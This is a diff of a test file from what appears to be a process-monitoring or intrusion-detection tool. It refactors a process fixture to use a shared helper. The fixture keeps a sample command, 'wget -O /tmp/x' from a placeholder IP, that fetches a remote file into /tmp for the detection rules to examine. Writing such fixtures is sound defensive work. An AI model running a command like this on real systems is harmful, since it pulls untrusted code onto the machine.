@@ -6,28 +6,15 @@ import { viewsOfFact } from './fact-event.ts'
 import facts from './mapping/facts.json' with { type: 'json' }
 import { parseRules } from './parse.ts'
 import { factSchemas } from '../../model/index.ts'
+import { processFact } from '../../test/facts.ts'
 
-const process: FactOf<'process'> = {
-  kind: 'process',
+const process = processFact({
   pid: 7,
   startTime: 1,
   name: 'wget',
   path: '/usr/bin/wget',
   command: 'wget -O /tmp/x http://192.0.2.1/x',
-  argv: [],
-  targets: [],
-  exeDeleted: false,
-  exeInMemory: false,
-  kernelThread: false,
-  kernelThreadImpostor: false,
-  argvMismatch: false,
-  hiddenFrom: [],
-  environmentTells: [],
-  devices: [],
-  openFiles: [],
-  unownedLibraries: [],
-  socketShell: false,
-}
+})
 
 const socket: FactOf<'socket'> = {
   kind: 'socket',
